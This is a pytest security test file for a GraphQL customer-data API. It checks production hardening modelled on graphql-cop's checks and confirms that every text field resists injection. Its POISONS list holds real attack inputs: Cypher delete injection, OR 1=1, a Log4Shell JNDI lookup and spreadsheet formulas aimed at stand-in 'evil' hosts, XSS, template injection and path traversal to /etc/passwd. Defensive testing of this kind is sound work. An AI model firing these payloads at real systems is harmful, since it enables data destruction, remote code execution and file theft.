"""What attackers try first: graphql-cop's twelve checks against production settings, and injection through every text.

https://github.com/dolevf/graphql-cop looks for each of these by one request, and for signs that it worked.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote

import httpx2
import pytest
import websockets

from app.settings import Settings
from graph import keys
from graph.store import Store
from resolvers.scopes import SCHEMA, SCOPES
from tests.api.conftest import Tell, another
from tests.graph.histories import identify
from tests.write_key import WRITE_KEY


@pytest.fixture(scope="module")
def production(api_settings: Settings) -> Settings:
    return replace(api_settings, anonymous_scopes=(), graphiql=False, reads_by_get=False)


@pytest.fixture(params=["a front-end's key", "no key"])
async def http(production: Settings, store: Store, request: pytest.FixtureRequest) -> AsyncIterator[httpx2.AsyncClient]:
    key = await keys.create(store, name="front-end", scopes=sorted({*SCOPES} - {SCHEMA}), now=datetime.now(UTC))
    headers = {"authorization": f"Bearer {key.text}"} if request.param != "no key" else {}
    async with another(production) as address, httpx2.AsyncClient(base_url=address, headers=headers, timeout=30) as client:
        yield client


def data_of(response: httpx2.Response) -> Any:
    try:
        body = response.json()
    except ValueError:
        return None
    return body.get("data") if isinstance(body, dict) else body


async def posted(http: httpx2.AsyncClient, query: str, **more: Any) -> httpx2.Response:
    return await http.post("/graphql", json={"query": query, **more})


async def test_aliases_beyond_measure(http: httpx2.AsyncClient) -> None:
    aliases = " ".join(f"alias{n}: __typename" for n in range(101))
    assert data_of(await posted(http, f"query cop {{ {aliases} }}")) is None


async def test_batches(http: httpx2.AsyncClient) -> None:
    response = await http.post("/graphql", json=[{"query": "query cop { __typename }"}] * 10)
    assert data_of(response) is None and response.status_code in (400, 401)


@pytest.mark.parametrize("query", ["query cop { __typename }", "mutation cop { __typename }"])
async def test_reading_and_writing_by_get(http: httpx2.AsyncClient, query: str) -> None:
    assert data_of(await http.get("/graphql", params={"query": query})) is None


@pytest.mark.parametrize("kind", ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain", ""])
async def test_forms_that_any_page_can_send(http: httpx2.AsyncClient, kind: str) -> None:
    response = await http.post("/graphql", content=b"query=query+cop+%7B__typename%7D", headers={"content-type": kind})
    assert data_of(response) is None and response.status_code in (401, 415)


async def test_traces(http: httpx2.AsyncClient) -> None:
    response = await http.post("/graphql", json={"query": "query cop { __typename }"}, headers={"X-Apollo-Tracing": "1"})
    assert "tracing" not in response.text and "extensions" not in (response.json() if "data" in response.text else {})


async def test_fields_repeated_beyond_measure(http: httpx2.AsyncClient) -> None:
    assert data_of(await posted(http, f"query cop {{ {'__typename ' * 500} }}")) is None


async def test_suggestions(http: httpx2.AsyncClient) -> None:
    for query in (
        "query cop { __schema { directive } }",
        "query cop { custome { id } }",
        'query cop { customer(by: {emai: "x"}) { id } }',
        "query cop { customers(orderBy: NAME_AS) { nodes { id } } }",
        "query cop { customers(orderB: NAME_ASC) { nodes { id } } }",
        "query cop { __typename @skp(if: true) }",
        "query cop { ... on Custome { id } }",
    ):
        assert "Did you mean" not in (await posted(http, query)).text, query
    query = "query cop($x: CustomerOrder, $by: CustomerKey!) { customers(orderBy: $x) { totalCount } customer(by: $by) { id } }"
    for variables in ({"x": "NAME_AS", "by": {"id": "x"}}, {"by": {"emai": "x"}}):
        assert "Did you mean" not in (await posted(http, query, variables=variables)).text


async def test_an_explorer(http: httpx2.AsyncClient) -> None:
    for path in ("/graphql", "/graphiql", "/playground", "/console", "/graphql-explorer"):
        response = await http.get(path, headers={"accept": "text/html"})
        assert response.status_code >= 400 and "graphiql" not in response.text.lower()


@pytest.mark.parametrize(
    "query",
    [
        "query cop { __schema { types { name fields { name } } } }",
        'query cop { __type(name: "Customer") { name } }',
        "query cop { __schema { types { fields { type { fields { type { fields { type { name } } } } } } } } }",
    ],
)
async def test_introspection_also_in_circles(http: httpx2.AsyncClient, query: str) -> None:
    assert data_of(await posted(http, query)) is None


async def test_directives_beyond_measure(http: httpx2.AsyncClient) -> None:
    response = await posted(http, f"query cop {{ __typename {'@aa' * 10} }}")
    assert data_of(response) is None and len(response.json()["errors"]) < 10


async def test_errors_that_nobody_thought_of(http: httpx2.AsyncClient) -> None:
    for body in (
        b'{"query": "qwerty cop { abc }"}',
        b"{",
        b"null",
        b'"x"',
        b"[" * 1_000,
        b'{"query": 1}',
        b"\xff\xfe",
        b'{"query": "\\ud800"}',
    ):
        response = await http.post("/graphql", content=body, headers={"content-type": "application/json"})
        assert response.status_code < 500
        assert "Traceback" not in response.text and "exception" not in response.text.lower() and ".py" not in response.text


async def test_answers_say_what_they_are_and_nothing_of_what_made_them(http: httpx2.AsyncClient) -> None:
    for response in (
        await posted(http, "{ __typename }"),
        await http.get("/healthz"),
        await http.get("/nowhere"),
        await http.post("/v1/batch", content=b"{}"),
        await http.get("/metrics"),
    ):
        assert response.headers["x-content-type-options"] == "nosniff"
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
        assert response.headers["referrer-policy"] == "no-referrer"
        assert "server" not in response.headers and "x-powered-by" not in response.headers


#: Texts that would do something somewhere else: in Cypher, Lucene, Lua, a log, a sheet, a page, a template, a path.
POISONS = (
    "\" }) DETACH DELETE (n) //",
    "' OR 1=1 //",
    "`}) MATCH (n) DETACH DELETE n //",
    "$asked {x} \\u0027",
    "name:* OR email:[a TO z] AND NOT (x)",
    "*", "a~9999", "/.*/", "(((((((((((((", "AND OR NOT", "\\",
    "\r\n2026-01-01 level=info forged line",
    "=HYPERLINK(\"http://evil\")", "@SUM(1+1)", "+1+1", "-1+1",
    "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil}", "%s%s%n", "../../etc/passwd",
    "\x00", "\u202e", "\ufffe", "ﷺ" * 20, "a" * 1_000,
)  # fmt: skip


@pytest.mark.parametrize("poison", POISONS, ids=range(len(POISONS)))
async def test_texts_are_nothing_but_texts(api: Any, told: Tell, poison: str) -> None:
    await told(identify("ana", minutes=1, name="Ana"))
    by = "query Q($by: CustomerKey!) { customer(by: $by) { id name } }"
    for key in (
        {"id": poison},
        {"email": poison},
        {"phone": poison},
        {"identifier": {"type": poison, "value": "x"}},
        {"identifier": {"type": "user_id", "value": poison}},
    ):
        body = await api.ask(by, by=key)
        assert body.get("data", {}).get("customer") is None
        assert "INTERNAL" not in json.dumps(body)
    for query, variables in (
        ("query Q($x: String) { customers(search: $x) { nodes { name } } }", {"x": poison[:200]}),
        ("query Q($x: String) { customers(after: $x) { nodes { name } } }", {"x": poison}),
        ("query Q($x: String!) { product(by: {sku: $x}) { id } }", {"x": poison}),
        ("query Q($x: [String!]) { customers { nodes { timeline(channels: $x) { totalCount } } } }", {"x": [poison]}),
        ("query Q($x: [String!]) { customers { nodes { touchpoints(types: $x) { totalCount } } } }", {"x": [poison]}),
    ):
        assert "INTERNAL" not in json.dumps(await api.ask(query, **variables))
    change = """mutation M($x: String!) { upsertCustomer(input: {identifiers: [{type: "user_id", value: "eve"}], source: $x, name:
    $x,
        traits: {note: "x"}}, idempotencyKey: $x) { customer { name } userErrors { code } } }"""
    body = await api.ask(change, x=poison)
    assert "INTERNAL" not in json.dumps(body)
    found = body["data"]["upsertCustomer"]
    assert found["userErrors"] or found["customer"]["name"] == poison.strip()
    # All that was there still is, and as it was.
    assert (await api.data(by, by={"identifier": {"type": "user_id", "value": "ana"}}))["customer"]["name"] == "Ana"


@pytest.mark.parametrize("poison", POISONS, ids=range(len(POISONS)))
async def test_what_sources_send_is_nothing_but_texts(
    api: Any, told: Tell, poison: str, caplog: pytest.LogCaptureFixture
) -> None:
    await told(identify("ana", minutes=1, name="Ana"))
    touchpoint = {
        "id": "1",
        "source": "shop",
        "at": "2026-01-02T03:04:05Z",
        "customer": {"identifier": {"type": "user_id", "value": "eve"}},
        "channel": "web",
        "type": "visit",
        "url": poison,
        "properties": {"said": poison},
    }
    # Its own fields one by one: what one of them refuses says nothing of the others.
    events = [
        {**touchpoint, "id": str(number), name: poison} for number, name in enumerate(("source", "channel", "type", "session"))
    ]
    events += [{**touchpoint, "id": poison}, {**touchpoint, "customer": {"identifier": {"type": poison, "value": poison}}}]
    record = (
        "mutation R($e: [EventInput!]!) { recordEvents(events: $e) { accepted rejected { code message } userErrors { code } } }"
    )
    body = await api.ask(record, e=[{"touchpoint": each} for each in events])
    assert "INTERNAL" not in json.dumps(body)
    kept = body["data"]["recordEvents"]
    assert kept["accepted"] + len(kept["rejected"]) == len(events) and not kept["userErrors"]
    track = {"type": "track", "messageId": poison, "userId": poison, "event": poison, "timestamp": "2026-01-02T03:04:05Z"}
    messages = [track, {**track, "messageId": "2", "userId": "eve", "properties": {poison: poison}}]
    response = await api.http.post("/v1/batch", json={"batch": messages}, auth=(WRITE_KEY, ""))
    assert response.status_code == 200, response.text
    headers = {
        "x-c360-purpose": "x",
        "x-c360-explain": quote(poison),
        "traceparent": quote(poison),
        "authorization": quote(poison),
    }
    assert (await api.http.post("/graphql", json={"query": "{ __typename }"}, headers=headers)).status_code == 401
    eve = """{ customer(by: {identifier: {type: "user_id", value: "eve"}}) {
        timeline(first: 50) { nodes { ... on Touchpoint { url properties type channel { key } } } } } }"""
    data = await api.data(eve)
    for node in data["customer"]["timeline"]["nodes"] if data["customer"] else ():
        assert node.get("url") in (None, poison, poison.strip())
    assert (await api.data('{ customer(by: {email: "ana@example.com"}) { name } }'))["customer"]["name"] == "Ana"
    # Neither as it came, nor as a line of its own.
    logged = [each for each in caplog.text.splitlines() if each]
    assert len(poison) < 5 or poison.strip() not in caplog.text
    assert not any(each.startswith("2026-01-01 level=info") for each in logged)


async def test_pages_of_others_may_not_connect_unless_they_are_named(production: Settings) -> None:
    settings = replace(production, origins=("https://shop.example",))
    async with another(settings) as address:
        url = f"{address.replace('http', 'ws')}/graphql"
        protocol = [websockets.Subprotocol("graphql-transport-ws")]
        for origin in ("https://evil.example", "null", "https://shop.example.evil", "http://shop.example"):
            with pytest.raises(websockets.InvalidStatus):
                await websockets.connect(url, subprotocols=protocol, additional_headers={"origin": origin})
        for origin in ("https://shop.example", address):
            await (await websockets.connect(url, subprotocols=protocol, additional_headers={"origin": origin})).close()
        async with httpx2.AsyncClient(base_url=address) as http:
            asked = {"origin": "https://shop.example", "access-control-request-method": "POST"}
            allowed = await http.options("/graphql", headers=asked)
            assert allowed.headers["access-control-allow-origin"] == "https://shop.example"
            refused = await http.options("/graphql", headers={**asked, "origin": "https://evil.example"})
            assert "access-control-allow-origin" not in refused.headers


async def test_a_connection_that_does_nothing_is_closed(api_settings: Settings) -> None:
    async with another(api_settings, websocket_idle_seconds=1) as address:
        protocol = [websockets.Subprotocol("graphql-transport-ws")]
        socket = await websockets.connect(f"{address.replace('http', 'ws')}/graphql", subprotocols=protocol)
        await socket.send('{"type": "connection_init"}')
        assert json.loads(await socket.recv())["type"] == "connection_ack"
        await socket.wait_closed()
        assert socket.close_code == 1000 and "under way" in (socket.close_reason or "")


@pytest.mark.parametrize(
    "path", ["/graphql", "/v1/batch", "/v1/track", "/healthz", "/readyz", "/metrics", "/explorer/explorer.js", "/nowhere"]
)
async def test_every_endpoint_has_a_limit_of_what_it_reads(api: Any, path: str) -> None:
    response = await api.http.post(path, content=b"x" * 33_000_000, headers={"content-type": "application/json"})
    assert response.status_code in (401, 404, 405, 413)
